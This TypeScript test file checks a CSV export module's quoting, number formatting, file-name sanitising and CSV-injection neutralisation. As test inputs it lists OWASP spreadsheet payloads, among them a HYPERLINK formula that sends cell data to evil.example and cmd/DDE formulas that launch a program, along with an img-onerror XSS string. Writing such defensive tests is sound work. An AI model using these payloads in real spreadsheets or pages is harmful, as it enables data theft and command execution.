import {describe, test} from 'node:test';
import assert from 'node:assert/strict';
import {csvField, csvFileName, csvNumber, csvShownRows, csvText, parseCsv as parseCsvUnderTest} from '../src/csv.js';

// The CSVs built in the browser (compare and trend; the reports' own tables come from the
// `table` route) are made of these fields.

/** A strict RFC 4180 parser, written independently of csv.ts, to read the output back. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let i = 0;
  let quoted = false;
  while (i < text.length) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        field += '"';
        i += 2;
      } else if (ch === '"') {
        quoted = false;
        i++;
      } else {
        field += ch;
        i++;
      }
    } else if (ch === '"') {
      assert.equal(field, '', 'a quote may only open a field');
      quoted = true;
      i++;
    } else if (ch === ',') {
      row.push(field);
      field = '';
      i++;
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i += 2;
    } else {
      assert.notEqual(ch, '\n', 'a bare LF outside quotes');
      field += ch;
      i++;
    }
  }
  assert.equal(quoted, false, 'unterminated quote');
  assert.equal(field, '', 'the last line must end with CRLF');
  assert.equal(row.length, 0);
  return rows;
}

const HOSTILE = [
  '<img src=x onerror=alert(1)>',
  'comma, and "quote"',
  'new\nline',
  'carriage\r\nreturn',
  '"',
  ',',
  '=HYPERLINK("x")',
  '  spaced  ',
  'ünïcödé ∞',
];

test('hostile names survive a round trip through an RFC 4180 parser', () => {
  const text = ['key,value', ...HOSTILE.map((name, i) => `${csvField(name)},${csvNumber(i)}`)].join('\r\n') + '\r\n';
  const parsed = parseCsv(text);
  assert.deepEqual(parsed[0], ['key', 'value']);
  assert.deepEqual(
    parsed.slice(1).map((row) => row[0]),
    HOSTILE.map(csvText),
  );
  for (const row of parsed) assert.equal(row.length, 2);
});

test('fields are quoted only when needed', () => {
  assert.equal(csvField('plain text'), 'plain text');
  assert.equal(csvField('a,b'), '"a,b"');
  assert.equal(csvField('say "hi"'), '"say ""hi"""');
  assert.equal(csvField('a\nb'), '"a\nb"');
  assert.equal(csvField('<img src=x onerror=alert(1)>'), '<img src=x onerror=alert(1)>');
});

test('undefined and infinite numbers are empty; numbers are shortest round-trip', () => {
  for (const v of [0.1, 1 / 3, 2 ** -1074, 1.7976931348623157e308, -1.5e-300, 123456789012345680000]) {
    assert.equal(Number(csvNumber(v)), v);
  }
  assert.equal(csvNumber(0.1 + 0.2), '0.30000000000000004');
  assert.equal(csvNumber(-1e-7), '-1e-7');
  assert.equal(csvNumber(null), '');
  assert.equal(csvNumber(undefined), '');
  assert.equal(csvNumber(Infinity), '');
  assert.equal(csvNumber(NaN), '');
});

test('file names are safe', () => {
  assert.equal(
    csvFileName(['fairness', 'run/1', 'assoc val', 'step4', '<img src=x>', 'vs', null]),
    'fairness__run_1__assoc_val__step4___img_src_x___vs.csv',
  );
  assert.equal(csvFileName([null, '']), 'fairness.csv');
});

// Spreadsheet payloads (OWASP's CSV injection cheat sheet): every one reads back as text
// that starts with a quote, so no spreadsheet runs it; other text is left as it is.
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "=cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '=1+1',
];

test('text that would start a formula starts with a quote (CSV injection)', () => {
  for (const f of FORMULAS) {
    assert.equal(csvText(f), "'" + f, f);
    const [[cell]] = parseCsv(csvField(f) + '\r\n');
    assert.equal(cell, "'" + f);
    assert.ok(!/^[=+\-@\t\r]/.test(cell));
  }
  for (const safe of ['a=b', 'x-y', ' =1', '', 'ünïcödé', '1e-3']) assert.equal(csvText(safe), safe);
});

describe('the rows on screen', () => {
  const server = 'label,count,gap\n"a,b",3,0.5\n\'=cmd,2,\n"say ""hi""",1,-0.25\nplain,4,0.1\n';

  test('every key in the server order gives back the server bytes', () => {
    assert.equal(csvShownRows(server, 'label', ['a,b', '=cmd', 'say "hi"', 'plain']), server);
  });

  test('the keys shown, in their order; a neutralised key is found by its shown name', () => {
    assert.equal(csvShownRows(server, 'label', ['plain', '=cmd']), "label,count,gap\nplain,4,0.1\n'=cmd,2,\n");
    assert.equal(csvShownRows(server, 'label', []), 'label,count,gap\n');
    assert.equal(csvShownRows(server, 'nope', ['plain']), null);
  });

  test('a key with several records keeps them all, in order', () => {
    const cells = 'class,group,value\nnurse,f,0.9\ndoctor,f,0.8\nnurse,m,0.7\n';
    assert.equal(csvShownRows(cells, 'class', ['nurse']), 'class,group,value\nnurse,f,0.9\nnurse,m,0.7\n');
  });

  test('parseCsv reads quoted commas, quotes and line breaks, LF and CRLF', () => {
    assert.deepEqual(parseCsvUnderTest('a,"b,c"\r\n"x\ny","""q"""\n'), [
      ['a', 'b,c'],
      ['x\ny', '"q"'],
    ]);
  });
});
